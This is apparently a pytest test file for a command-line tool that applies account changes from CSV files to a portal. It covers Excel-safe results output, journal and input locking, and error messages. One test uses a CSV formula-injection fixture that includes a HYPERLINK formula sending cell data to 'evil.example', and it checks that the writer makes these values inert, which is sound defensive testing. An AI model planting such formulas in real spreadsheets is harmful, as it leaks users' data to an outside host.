"""The accounts job's own files: results safe to open in Excel, one run per journal, never written over the input."""

from __future__ import annotations

import codecs
import csv
import json
import os
import re
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest
from openpyxl import Workbook
from test_accounts_parts import OWNER

from flows import journal_lock
from flows import update_accounts as library_update_accounts
from flows.input_lock import InputInUseError, InputLock, lock_path
from flows.journal import Journal, JournalElsewhereError, JournalInUseError
from flows.outcomes import RowOutcome
from flows.secret_folder import PREFIX, remove_orphans
from flows.spreadsheet import AccountRow, read_rows, write_results

pytestmark = pytest.mark.tooling  # the library's own parts: no portal

ROOT = Path(__file__).parent.parent
NOWHERE = "http://127.0.0.1:9/"  # nothing listens there: a job that got as far as a browser would fail
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Open")'
# A run that holds its journal until it is killed; it says so once it does.
HOLDER = """
import sys
from flows.journal import Journal
journal = Journal(sys.argv[1], owner={"base_url": "http://127.0.0.1:8000/", "user": "admin-agent"})
print("holding", flush=True)
sys.stdin.read()  # until the test ends it
"""


def changes_file(tmp_path: Path) -> Path:
    """Return a file of one row of changes."""
    file = tmp_path / "changes.csv"
    file.write_text("customer,city\r\nContoso,Lyon\r\n", encoding="utf-8")
    return file


def update_accounts(file: Path, *extra: str, locks: Path | None = None) -> subprocess.CompletedProcess[str]:
    """Run ``python -m flows update-accounts FILE`` against a portal that is not there."""
    command = [sys.executable, "-m", "flows", "update-accounts", str(file), "--base-url", NOWHERE,
               "--user", "global-admin", *extra]  # fmt: skip
    # The locks of the file's runs with it (or in ``locks``), not in the machine's /tmp
    env = {**os.environ, "TMPDIR": str(locks or file.parent)}
    return subprocess.run(command, capture_output=True, text=True, timeout=60, cwd=ROOT, env=env)


def test_results_csv_cells_excel_would_run_as_formulas_are_written_inert(tmp_path: Path) -> None:
    # Given an outcome where the row, the portal, a message and a column's name each start a formula
    outcome = RowOutcome(
        2, HYPERLINK, "invalid", "", wanted={"city": "+33 Lyon", "@x": "1"}, before={"city": "-1"},
        after={"city": "\tcmd"}, messages=["\r=1+1"],
    )  # fmt: skip
    kept = outcome.as_dict()

    write_results(tmp_path / "r.csv", [outcome])
    write_results(tmp_path / "r.json", [outcome])

    # Then the CSV shows each as text behind a quote; the outcome and the JSON results keep the values as they are
    with (tmp_path / "r.csv").open(newline="", encoding="utf-8-sig") as file:
        header, row = list(csv.reader(file))
    assert header[4:10] == ["city wanted", "city before", "city after", "'@x wanted", "'@x before", "'@x after"]
    assert row == [
        "2",
        f"'{HYPERLINK}",
        "invalid",
        "",
        "'+33 Lyon",
        "'-1",
        "'\tcmd",
        "1",
        "",
        "",
        "'\r=1+1",
        "0.00",
        "",
    ]
    assert outcome.as_dict() == kept
    assert json.loads((tmp_path / "r.json").read_text(encoding="utf-8")) == [kept]


@pytest.mark.parametrize(
    ("header", "first_lines"),
    [("customer;city\r\n", ["row;customer;outcome;customer_id;messages;seconds;trace"]),
     ("sep=;\r\ncustomer;city\r\n", ["sep=;", "row;customer;outcome;customer_id;messages;seconds;trace"]),
     ("customer,city\r\n", ["row,customer,outcome,customer_id,messages,seconds,trace"])],
    ids=["semicolons", "semicolons-named", "commas"],
)  # fmt: skip
def test_results_csv_is_split_as_the_changes_file_was(tmp_path: Path, header: str, first_lines: list[str]) -> None:
    # Given a file of changes as a French Excel saves it (semicolons: that Excel splits a CSV at them alone)
    file = tmp_path / "changes.csv"
    file.write_bytes(codecs.BOM_UTF8 + header.encode())

    done = update_accounts(file)

    assert done.returncode == 0, done.stderr
    written = (tmp_path / "changes.csv.results.csv").read_text(encoding="utf-8-sig")
    assert written.splitlines() == first_lines


def test_results_csv_starts_with_a_bom_so_excel_on_windows_reads_names_as_utf_8(tmp_path: Path) -> None:
    write_results(
        tmp_path / "r.csv", [RowOutcome(2, "趋势信息有限公司", "changed"), RowOutcome(3, "Société Lyonnaise", "failed")]
    )

    data = (tmp_path / "r.csv").read_bytes()

    assert data.startswith(codecs.BOM_UTF8)
    assert data.decode("utf-8-sig").splitlines() == [
        "row,customer,outcome,customer_id,messages,seconds,trace",
        "2,趋势信息有限公司,changed,,,0.00,",
        "3,Société Lyonnaise,failed,,,0.00,",
    ]


def test_results_split_at_tabs_are_unicode_text_which_excel_splits_at_tabs(tmp_path: Path) -> None:
    # Given the changes of a file Excel saved as "Unicode text" (UTF-16, tabs): their results are split at tabs too
    write_results(tmp_path / "r.csv", [RowOutcome(2, "Contoso, Ltd", "changed")], "\t")

    data = (tmp_path / "r.csv").read_bytes()

    # Then they are UTF-16 with a BOM, which Excel opens split at tabs (UTF-8 it would split at commas)
    assert data.startswith((codecs.BOM_UTF16_LE, codecs.BOM_UTF16_BE))
    assert data.decode("utf-16").splitlines() == [
        "row\tcustomer\toutcome\tcustomer_id\tmessages\tseconds\ttrace",
        "2\tContoso, Ltd\tchanged\t\t\t0.00\t",
    ]


def test_a_second_run_on_a_journal_in_use_is_refused_and_the_first_one_s_record_stays_whole(tmp_path: Path) -> None:
    # Given a run writing its journal, one row finished
    path = tmp_path / "run.journal"
    rows = [AccountRow(n, f"Customer {n}", {"city": "Lyon"}) for n in (2, 3)]
    with Journal(path, owner=OWNER) as first:
        first.number(rows)
        first.finished(rows[0], RowOutcome(2, "Customer 2", "changed"))

        # When another run opens it, afresh or resuming, then it is refused, naming the journal and the run
        said = rf"Another run \(pid {os.getpid()}\) is using the journal {re.escape(str(path))}: wait for it"
        for resume in (False, True):
            with pytest.raises(JournalInUseError, match=said):
                Journal(path, resume=resume, owner=OWNER)
        Journal(path, resume=True, owner=OWNER, read_only=True).close()  # a dry run only reads: not refused
        first.finished(rows[1], RowOutcome(3, "Customer 3", "changed"))

    # And the first run's record is whole: a resume knows both rows finished
    assert b"\0" not in path.read_bytes()
    with Journal(path, resume=True, owner=OWNER) as resumed:
        resumed.number(rows)
        assert [getattr(resumed.final(row), "outcome", None) for row in rows] == ["changed", "changed"]


def test_a_run_holds_its_journal_while_it_lives_and_a_crash_leaves_it_free(tmp_path: Path) -> None:
    path = tmp_path / "run.journal"
    with subprocess.Popen(
        [sys.executable, "-c", HOLDER, str(path)], cwd=ROOT, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
    ) as run:
        try:
            assert run.stdout is not None and run.stdout.readline() == "holding\n"
            with pytest.raises(JournalInUseError, match=rf"Another run \(pid {run.pid}\)"):
                Journal(path, owner=OWNER)
        finally:
            run.kill()  # as a crash: the journal is never closed
            run.wait()

    with Journal(path, resume=True, owner=OWNER) as next_run:
        assert next_run.found


def test_without_flock_a_pid_lock_file_holds_the_journal_and_a_gone_run_s_is_taken_over(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Given no flock (as on Windows), and the lock file of a run that crashed
    monkeypatch.setattr(journal_lock, "fcntl", None)
    path, lock = tmp_path / "run.journal", tmp_path / "run.journal.lock"
    gone = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    lock.write_text(gone.stdout)

    # Then a run takes the lock over, another is refused while it runs, and the lock goes with the run
    with Journal(path, owner=OWNER):
        assert lock.read_text() == f"{os.getpid()}\n"
        said = (
            rf"Another run \(pid {os.getpid()}\) is using the journal .* \(if none runs, remove {re.escape(str(lock))}"
        )
        with pytest.raises(JournalInUseError, match=said):
            Journal(path, resume=True, owner=OWNER)
    assert not lock.exists()


def test_the_same_job_started_twice_stops_at_once_naming_the_journal_and_the_first_job(tmp_path: Path) -> None:
    # Given the first job, still writing its journal
    file, journal = changes_file(tmp_path), tmp_path / "changes.csv.results.csv.journal"
    with Journal(journal, owner=OWNER):
        written = journal.read_bytes()

        # When the same command is run again
        done = update_accounts(file)

        # Then it stops before any browser, with a usage error's code, and leaves the journal alone
        said = f"error: Another run (pid {os.getpid()}) is using the journal {journal}: wait for it to end"
        assert (done.returncode, len(done.stderr.splitlines())) == (2, 1), done.stderr
        assert done.stderr.startswith(said), done.stderr
        assert journal.read_bytes() == written


@pytest.fixture
def held_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Return a file of changes whose runs' locks are in its own folder, as a run of ``update_accounts`` has them."""
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    return changes_file(tmp_path)


@pytest.mark.parametrize("resume", [[], ["--resume"]], ids=["afresh", "resumed"])
@pytest.mark.parametrize(("spelled", "base_url"), [("changes.csv", NOWHERE), ("sub/../changes.csv", NOWHERE[:-1])])
def test_a_file_another_run_applies_to_the_same_portal_is_refused_whatever_its_results(
    held_file: Path, resume: list[str], spelled: str, base_url: str
) -> None:
    # Given a run applying the file, and the journal an earlier run left beside other results
    (held_file.parent / "sub").mkdir()
    other = held_file.parent / "other.csv"
    (held_file.parent / "other.csv.journal").write_text("{}\n")
    first = InputLock(held_file, base_url, held_file.parent / "first.csv")
    try:
        # When the file is run again with other results (its own journal, blind to the first run's rows)
        done = update_accounts(held_file.parent / spelled, "--results", str(other), *resume)
    finally:
        first.release()

    # Then it stops before any browser, naming the run and its results, and leaves its journal as it was
    said = f"error: Another run (pid {os.getpid()}, results {held_file.parent / 'first.csv'}) is applying "
    assert (done.returncode, len(done.stderr.splitlines())) == (2, 1), done.stderr
    assert done.stderr.startswith(said), done.stderr
    assert (held_file.parent / "other.csv.journal").read_text() == "{}\n"


def test_a_file_s_lock_is_the_portal_s_and_goes_with_its_run(held_file: Path) -> None:
    InputLock(held_file, NOWHERE, held_file.parent / "a.csv").release()
    with pytest.raises(InputInUseError):  # taken again once released, and held
        held = InputLock(held_file, NOWHERE, held_file.parent / "a.csv")
        InputLock(held_file, NOWHERE, held_file.parent / "b.csv")
    held.release()
    assert not lock_path(held_file, NOWHERE).exists()  # nothing left behind
    InputLock(held_file, "http://127.0.0.1:8000/", held_file.parent / "b.csv").release()  # another portal
    assert "is applying" not in update_accounts(held_file, "--dry-run").stderr  # a dry run changes nothing


@pytest.mark.parametrize(
    "written",
    ["http://localhost:9", "HTTP://LOCALHOST:9/", "http://[::1]:9/", "http://127.0.0.2:9", "http://127.0.0.1:9//"],
)
def test_the_same_portal_written_another_way_is_the_same_portal_to_a_file_s_lock(held_file: Path, written: str) -> None:
    held = InputLock(held_file, NOWHERE, held_file.parent / "a.csv", read_rows(held_file))
    try:
        with pytest.raises(InputInUseError, match=r"^Another run \(pid \d+"):
            InputLock(held_file, written, held_file.parent / "b.csv")
        with pytest.raises(InputInUseError, match="the same rows"):  # a copy of the file too
            InputLock(copy_of(held_file, "copy.csv"), written, held_file.parent / "b.csv", read_rows(held_file))
    finally:
        held.release()


@pytest.mark.parametrize("other", ["https://127.0.0.1:9/", "http://127.0.0.1:10/", "http://127.0.0.1:9/eu/"])
def test_another_scheme_port_or_path_is_another_portal_to_a_file_s_lock(held_file: Path, other: str) -> None:
    held = InputLock(held_file, NOWHERE, held_file.parent / "a.csv", read_rows(held_file))
    try:
        InputLock(held_file, other, held_file.parent / "b.csv", read_rows(held_file)).release()
    finally:
        held.release()


def test_without_flock_a_pid_lock_file_holds_the_input_file(held_file: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(journal_lock, "fcntl", None)
    held = InputLock(held_file, NOWHERE, held_file.parent / "a.csv")
    try:
        with pytest.raises(InputInUseError, match=rf"Another run \(pid {os.getpid()}\) is applying {held_file}"):
            InputLock(held_file, NOWHERE, held_file.parent / "b.csv")
    finally:
        held.release()
    InputLock(held_file, NOWHERE, held_file.parent / "b.csv").release()


def copy_of(file: Path, name: str) -> Path:
    """Return a copy of ``file``'s rows saved elsewhere: as it is, its rows the other way up, or as an XLSX."""
    copy = file.parent / name
    copy.parent.mkdir(exist_ok=True)
    rows = [row.split(",") for row in file.read_text(encoding="utf-8").splitlines()]
    if name.endswith(".xlsx"):
        workbook = Workbook()
        for row in [rows[0], *reversed(rows[1:])]:
            workbook.active.append(row)
        workbook.save(copy)
    else:
        copy.write_bytes(file.read_bytes())
    return copy


@pytest.mark.parametrize("name", ["elsewhere/changes.csv", "changes (2).csv", "changes.xlsx"])
def test_a_copy_of_a_file_another_run_applies_to_the_same_portal_is_refused_naming_that_run(
    held_file: Path, name: str
) -> None:
    # Given a run applying a file of two rows, and a copy of it saved elsewhere (an XLSX, its rows the other way up)
    held_file.write_text("customer,city\r\nContoso,Lyon\r\nFabrikam,Paris\r\n", encoding="utf-8")
    copy = copy_of(held_file, name)
    first = InputLock(held_file, NOWHERE, held_file.parent / "first.csv", read_rows(held_file))
    try:
        # When the copy is run
        done = update_accounts(copy, locks=held_file.parent)
    finally:
        first.release()

    # Then it stops before its journal is made, naming the run applying the rows and the file it applies
    said = (f"error: Another run (pid {os.getpid()}, results {held_file.parent / 'first.csv'}) is applying the same "
            f"rows as {copy} (from {held_file}) to {NOWHERE}: wait for it to end")  # fmt: skip
    assert (done.returncode, len(done.stderr.splitlines())) == (2, 1), done.stderr
    assert done.stderr.startswith(said), done.stderr
    assert not copy.with_name(copy.name + ".results.csv.journal").exists()
    assert not list(held_file.parent.glob("flows-accounts-*.lock"))  # the copy's own file lock went with it


def test_a_file_whose_rows_differ_in_one_value_is_another_file(held_file: Path) -> None:
    other = held_file.parent / "other.csv"
    other.write_text("customer,city\r\nContoso,Lille\r\n", encoding="utf-8")
    first = InputLock(held_file, NOWHERE, held_file.parent / "a.csv", read_rows(held_file))
    try:
        InputLock(other, NOWHERE, held_file.parent / "b.csv", read_rows(other)).release()
    finally:
        first.release()


def test_a_run_refused_in_another_folder_is_told_the_full_paths_of_the_run_applying_the_rows(
    held_file: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Given a run started in the file's folder, its file and results given by their names
    monkeypatch.chdir(held_file.parent)
    first = InputLock(Path(held_file.name), NOWHERE, Path("first.csv"), read_rows(held_file))
    try:
        # When a copy of the file is run from another folder, Then the message names the first run's files in full
        (held_file.parent / "sub").mkdir()
        monkeypatch.chdir(held_file.parent / "sub")
        copy = copy_of(held_file, "sub/copy.csv")
        said = f"results {held_file.parent / 'first.csv'}) is applying the same rows as {copy} (from {held_file})"
        with pytest.raises(InputInUseError, match=re.escape(said)):
            InputLock(copy, NOWHERE, Path("r.csv"), read_rows(copy))
    finally:
        first.release()


def test_a_script_applying_rows_another_run_applies_to_the_same_portal_is_refused_before_its_journal(
    held_file: Path,
) -> None:
    # Given the command applying a file, and a script's journal an earlier run of it left
    journal = held_file.parent / "script.journal"
    journal.write_text("{}\n")
    first = InputLock(held_file, NOWHERE, held_file.parent / "first.csv", read_rows(held_file))
    try:
        # When a script applies the same rows to the same portal
        said = rf"Another run \(pid {os.getpid()}, results .*first\.csv\) is applying the same rows \(from .*changes"
        with pytest.raises(InputInUseError, match=said):
            library_update_accounts([{"customer": "Contoso", "city": "Lyon"}], NOWHERE, "global-admin",
                                    api_client_id="x", journal=journal)  # fmt: skip
    finally:
        first.release()

    # Then its journal is left as it was, and nothing of the script's lock stays
    assert journal.read_text() == "{}\n"
    assert not list(held_file.parent.glob("flows-accounts-*.lock"))


def test_a_resume_with_other_results_than_the_run_it_carries_on_names_that_run_s_journal(tmp_path: Path) -> None:
    # Given a run of the file without --results, stopped as a row's Submit was under way
    file, earlier = changes_file(tmp_path), tmp_path / "changes.csv.results.csv.journal"
    [row] = read_rows(file)
    with Journal(earlier, owner={"base_url": NOWHERE, "user": "global-admin"}) as journal:
        journal.number([row])
        journal.started(row, {"city": "Paris"})

    # When it is resumed with other results (where no journal is)
    done = update_accounts(file, "--resume", "--results", str(tmp_path / "other.csv"))

    # Then it stops before any browser, naming the journal it would have forgotten and how to resume from it
    said = (f"error: no journal at {tmp_path / 'other.csv.journal'} to resume, but {earlier} records rows of this "
            f"file: resume with --results {tmp_path / 'changes.csv.results.csv'}")  # fmt: skip
    assert (done.returncode, len(done.stderr.splitlines())) == (2, 1), done.stderr
    assert done.stderr.startswith(said), done.stderr
    assert not (tmp_path / "other.csv.journal").exists()


def test_a_script_s_resume_naming_another_journal_than_the_run_it_carries_on_names_that_run_s_journal(
    tmp_path: Path,
) -> None:
    # Given a script's run of two rows that kept its journal as "monday.journal", stopped as a Submit was under way
    rows = [AccountRow(1, "Contoso", {"city": "Lyon"}), AccountRow(2, "Fabrikam", {"city": "Nice"})]
    earlier = tmp_path / "monday.journal"
    with Journal(earlier, owner={"base_url": NOWHERE, "user": "global-admin"}) as journal:
        journal.number(rows)
        journal.started(rows[1], {"city": "Nice"})
    before = earlier.read_text()

    # When the script resumes, naming a journal where none is
    elsewhere = tmp_path / "tuesday.journal"
    with pytest.raises(JournalElsewhereError) as raised:
        library_update_accounts(rows, NOWHERE, "global-admin", api_client_id="x", journal=elsewhere, resume=True)

    # Then it stops before any browser, naming the journal it would have forgotten in the script's own terms
    said = (f"no journal at {elsewhere} to resume, but {earlier} records these rows: resume with "
            f"journal={str(earlier)!r}, or run with resume=False to check every row afresh")  # fmt: skip
    assert str(raised.value) == said
    assert (raised.value.path, raised.value.found) == (elsewhere, [earlier])
    assert (earlier.read_text(), elsewhere.exists()) == (before, False)
    InputLock(None, NOWHERE, None, rows).release()  # its hold on the rows let go: another run may take them


def test_a_resume_without_a_journal_beside_another_portal_s_journal_checks_every_row_afresh(tmp_path: Path) -> None:
    file = changes_file(tmp_path)
    with Journal(tmp_path / "old.csv.journal", owner=OWNER) as journal:  # another portal's
        journal.finished(read_rows(file)[0], RowOutcome(2, "Contoso", "changed"))

    done = update_accounts(file, "--resume")

    assert "note: no journal at" in done.stderr and "records rows" not in done.stderr, done.stderr


@pytest.mark.parametrize(
    ("results", "said"),
    [
        pytest.param("changes.csv", "--results {results} is the input file", id="the-input"),
        pytest.param("sub/../changes.csv", "--results {results} is the input file", id="another-spelling"),
        pytest.param("link.csv", "--results {results} is the input file", id="a-link-to-it"),
        pytest.param("r.csv", "the journal {results}.journal (PATH.journal of --results) is the input", id="journal"),
        pytest.param("r.xlsx", "--results {results}: the results are written as CSV or JSON", id="not-csv-or-json"),
    ],
)
def test_results_or_journal_over_the_input_file_is_a_usage_error_before_anything_runs(
    tmp_path: Path, results: str, said: str
) -> None:
    file = changes_file(tmp_path)
    (tmp_path / "link.csv").symlink_to(file)
    (tmp_path / "r.csv.journal").symlink_to(file)
    content = file.read_bytes()

    done = update_accounts(file, "--results", str(tmp_path / results))

    assert (done.returncode, len(done.stderr.splitlines())) == (2, 1), done.stderr
    assert done.stderr.startswith("error: " + said.format(results=tmp_path / results)), done.stderr
    assert file.read_bytes() == content


def test_an_input_file_that_is_not_there_is_a_usage_error(tmp_path: Path) -> None:
    done = update_accounts(tmp_path / "chnages.csv")

    assert (done.returncode, done.stderr.strip()) == (2, f"error: {tmp_path / 'chnages.csv'}: no such file")


TOO_LONG = "x" * 300  # a name no file system takes: its path cannot be looked at (as a folder that may not be entered)


def test_an_input_file_whose_path_cannot_be_looked_at_is_said_in_one_line_not_a_traceback(tmp_path: Path) -> None:
    done = update_accounts(tmp_path / f"{TOO_LONG}.csv")

    assert done.returncode == 3, done.stderr
    assert done.stderr.startswith(f"error: Cannot read {tmp_path / TOO_LONG}.csv: ") and "name too long" in done.stderr
    assert len(done.stderr.splitlines()) == 1, done.stderr


def test_results_whose_path_cannot_be_looked_at_are_said_before_anything_runs(tmp_path: Path) -> None:
    done = update_accounts(changes_file(tmp_path), "--results", str(tmp_path / TOO_LONG / "r.csv"))

    assert done.returncode == 1, done.stderr
    assert done.stderr.startswith(f"error: the results cannot be written to {tmp_path / TOO_LONG / 'r.csv'}: ")
    assert "nothing was run" in done.stderr and len(done.stderr.splitlines()) == 1, done.stderr


def test_a_file_without_rows_whose_results_cannot_be_written_says_so_in_one_line(tmp_path: Path) -> None:
    empty = tmp_path / "empty.csv"
    empty.write_text("customer;city\r\n;\r\n", encoding="utf-8")

    done = update_accounts(empty, "--results", str(tmp_path / "no-such-folder" / "results.csv"))

    assert done.returncode == 1, done.stderr
    assert done.stderr.splitlines()[-1].startswith("error: the results cannot be written to "), done.stderr
    assert "Traceback" not in done.stderr


def test_results_that_cannot_be_written_are_said_before_any_row_runs(tmp_path: Path) -> None:
    # Given a results file that cannot be made: a folder in the way of its temporary file (a read-only folder, or
    # Windows' Excel holding the last run's results, fails alike; neither can be made here, where tests run as root)
    file = changes_file(tmp_path)
    (tmp_path / "changes.csv.results.csv.tmp" / "in the way").mkdir(parents=True)

    done = update_accounts(file, "--password", "p", "--api-client-id", "5c2e9d4b-7a1f-4e3c-8b6d-21f0a9c3e7d1")

    # Then the run stops before any browser, rather than after every row was applied, its results lost
    assert done.returncode == 1, done.stderr
    assert done.stderr.startswith("error: the results cannot be written to "), done.stderr
    assert done.stderr.rstrip().endswith("nothing was run"), done.stderr
    assert not (tmp_path / "changes.csv.results.csv.journal").exists()


def test_the_sign_in_folder_of_a_run_killed_hard_is_deleted_by_the_next_run(tmp_path: Path) -> None:
    # Given the folders of a run that is gone (killed with SIGKILL: it could not delete its own) and of one alive
    gone = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    dead = tmp_path / f"{PREFIX}{gone.stdout.strip()}-abc"
    living = tmp_path / f"{PREFIX}{os.getpid()}-def"
    older = tmp_path / f"{PREFIX}07yj6_ao"  # an earlier version's, named without its process: not known to be gone
    for folder in (dead, living, older):
        folder.mkdir()
        (folder / "provider-session.json").write_text("{}")

    # When a run starts, Then only the gone run's folder (and the secret in it) is deleted
    assert remove_orphans(tmp_path) == [dead]
    assert sorted(path.name for path in tmp_path.iterdir()) == sorted([living.name, older.name])
